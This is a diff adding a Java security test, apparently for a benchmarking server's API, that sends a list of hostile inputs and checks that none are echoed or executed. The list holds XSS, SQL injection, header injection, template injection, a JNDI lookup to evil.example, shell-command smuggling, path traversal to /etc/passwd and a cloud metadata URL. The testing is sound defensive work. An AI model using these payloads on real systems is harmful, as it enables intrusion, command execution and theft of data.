@@ -2,6 +2,10 @@ package dev.halfspeed.controller;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.halfspeed.core.Principal;
+import dev.halfspeed.core.Role;
+import dev.halfspeed.regression.RegressionView;
+import dev.halfspeed.report.TokenView;
 import dev.halfspeed.time.Time;
 import dev.halfspeed.web.Token;
 import dev.halfspeed.web.WebServer;
@@ -12,6 +16,7 @@ import java.net.InetAddress;
 import java.net.Socket;
 import java.net.SocketException;
 import java.net.SocketTimeoutException;
+import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -19,6 +24,7 @@ import java.time.Duration;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
 import java.util.Random;
 import java.util.Set;
@@ -44,6 +50,8 @@ final class HostileRequestsTest {
   private static final String SECRET = "hunter2-is-the-password";
   private static final Set<Integer> REFUSALS =
       Set.of(400, 401, 403, 404, 405, 408, 413, 414, 415, 422, 429, 431);
+
+  private static final Principal ANN = Principal.commandLine("ann");
 
   @TempDir Path folder;
   private KernelRepository repository;
@@ -153,6 +161,163 @@ final class HostileRequestsTest {
         .isEqualTo(200);
     assertThat(exchange(request("GET", "/api/v1/recipes/tiny", ""), true).status()).isEqualTo(200);
     assertThat(folder.resolve("executed")).doesNotExist();
+  }
+
+  /** What people and programs send as names, reasons and words, and what then shows it. */
+  @Test
+  void hostileTextsAreWrittenWithoutWhatTheyWouldDo() throws Exception {
+    String viewer = controller.tokens().create("guest", Role.VIEWER, null, ANN).secret();
+    for (String text : texts()) {
+      for (Map.Entry<String, String> write : writes().entrySet()) {
+        ObjectNode body = (ObjectNode) JSON.readTree(write.getValue());
+        String field = body.propertyNames().iterator().next();
+        Answer answer =
+            exchange(request("POST", write.getKey(), body.put(field, text).toString()), true);
+        accept(write.getKey(), text, answer);
+      }
+      String escaped = URLEncoder.encode(text, StandardCharsets.UTF_8);
+      for (String page :
+          List.of(
+              turn("/api/v1/audit?by=", "/api/v1/audit?since=", "/api/v1/tokens/"),
+              turn("/watches/", "/comparisons/"),
+              turn("/regressions?state=", "/watches?since="))) {
+        accept(page, text, exchange(request("GET", page + escaped, ""), true));
+      }
+      byte[] asViewer =
+          new String(
+                  request("POST", "/api/v1/labs/" + escaped + "/remove", "{}"),
+                  StandardCharsets.UTF_8)
+              .replace(TOKEN, viewer)
+              .getBytes(StandardCharsets.UTF_8);
+      assertThat(exchange(asViewer, true).status()).isIn(403, 404, 414);
+    }
+    assertThat(sent).isGreaterThan(480);
+    controller.regressions().pass();
+    RegressionView regression = controller.regressions().list().getFirst();
+    assertThat(regression.alarms()).as(statuses.toString()).hasSizeGreaterThan(30);
+    assertThat(controller.tokens().list()).extracting(TokenView::name).contains("guest");
+    for (String page :
+        List.of(
+            "/",
+            "/watches",
+            "/regressions",
+            "/regressions/" + regression.id(),
+            "/machines",
+            "/account",
+            "/api/v1/regressions.csv",
+            "/api/v1/regressions",
+            "/api/v1/audit?limit=1000",
+            "/api/v1/tokens",
+            "/api/v1/machines")) {
+      Answer shown = exchange(request("GET", page, ""), true);
+      assertThat(shown.status()).as(page).isEqualTo(200);
+      accept(page, "all of them", shown);
+    }
+    assertThat(wrong).isEmpty();
+    for (Path place : List.of(Path.of("").toAbsolutePath(), folder, repository.folder())) {
+      assertThat(place.resolve("executed")).doesNotExist();
+    }
+  }
+
+  /** Notes what must not be in an answer, whatever was sent. */
+  private void accept(String where, String text, Answer answer) {
+    sent++;
+    statuses.merge(answer.status(), 1, Integer::sum);
+    String shown = where + " <- " + text.substring(0, Math.min(60, text.length()));
+    if (answer.status() >= 500 || answer.status() == 0) {
+      wrong.add(shown + " -> " + answer.status());
+    }
+    int end = answer.text().indexOf("\r\n\r\n");
+    String head = end < 0 ? "" : answer.text().substring(0, end);
+    boolean isHtml = head.contains("text/html");
+    for (String part :
+        isHtml
+            ? List.of("<script>alert", "<img src=x", "onerror=alert(1)>", "\u001b", "\u202e")
+            : List.of("\u001b", "\u009b31m")) {
+      if (answer.body().contains(part)) {
+        wrong.add(shown + " shows " + part);
+      }
+    }
+    for (String part : List.of("7777777", SECRET, TOKEN, "root:x:0", "Exception", "\tat ")) {
+      if (answer.body().contains(part)) {
+        wrong.add(shown + " tells " + part);
+      }
+    }
+    if (head.toLowerCase(Locale.ROOT).contains("\r\nx-injected")) {
+      wrong.add(shown + " has a header of the client's");
+    }
+  }
+
+  private static List<String> texts() {
+    return List.of(
+        "<script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)>",
+        "' onmouseover='alert(1)",
+        "javascript:alert(1)",
+        "]]><!--",
+        "&lt;script&gt;",
+        "'; DROP TABLE token; --",
+        "' OR '1'='1",
+        "\" UNION SELECT digest FROM token --",
+        "x\r\nX-Injected: yes",
+        "x\nX-Injected: yes\n\n<script>alert(1)</script>",
+        "\u001b[31mred\u001b[0m",
+        "\u001b]0;title\u0007",
+        "\u009b31m",
+        "\u202egnp.exe",
+        "\u2066isolated\u2069",
+        "\u0000",
+        "a\u0000b",
+        "\ud83d\ude00\u0301\u0301\u0301",
+        "\ufeff",
+        "${1111111*7}",
+        "#{1111111*7}",
+        "{{1111111*7}}",
+        "<%= 1111111*7 %>",
+        "@(1111111*7)",
+        "!{1111111*7}",
+        "${jndi:ldap://evil.example/x}",
+        "%s%s%s%n%x",
+        "$(touch executed)",
+        "`touch executed`",
+        ";touch executed;",
+        "|touch executed",
+        "--upload-pack=touch executed",
+        "-rf",
+        "=cmd|' /C touch executed'!A0",
+        "../../../../etc/passwd",
+        "..%2f..%2fetc%2fpasswd",
+        "/etc/passwd",
+        "file:///etc/passwd",
+        "http://169.254.169.254/latest/meta-data",
+        "ext::sh -c 'touch executed'",
+        "CON",
+        " ",
+        "a".repeat(20_000));
+  }
+
+  /** Calls that take words of people, the field with them first. */
+  private Map<String, String> writes() {
+    String linux = repository.folder().toString();
+    var writes = new LinkedHashMap<String, String>();
+    writes.put("/api/v1/tokens", "{\"name\": \"\", \"role\": \"viewer\"}");
+    writes.put("/api/v1/tokens?role", "{\"role\": \"\", \"name\": \"x\"}");
+    writes.put("/api/v1/links", "{\"path\": \"\"}");
+    writes.put("/api/v1/labs", "{\"name\": \"\", \"path\": \"" + folder + "/lab.yaml\"}");
+    writes.put("/api/v1/repositories", "{\"path\": \"\", \"name\": \"x\"}");
+    writes.put("/api/v1/machines/lab1/drain", "{\"reason\": \"\"}");
+    writes.put("/api/v1/watches/w/pause", "{\"reason\": \"\"}");
+    String alarm =
+        ", \"repository\": \"%s\", \"good\": \"main~1\", \"bad\": \"main\", \"kind\": \"loss\", \"before\": 1000, \"after\": 800}"
+            .formatted(linux);
+    writes.put("/api/v1/alarms", "{\"key\": \"\", \"source\": \"s\", \"metric\": \"tps\"" + alarm);
+    writes.put(
+        "/api/v1/alarms?command",
+        "{\"command\": \"\", \"metric\": \"tps\", \"source\": \"c\", \"key\": \"k"
+            + sent
+            + "\""
+            + alarm);
+    return writes;
   }
 
   private String turn(String... choices) {
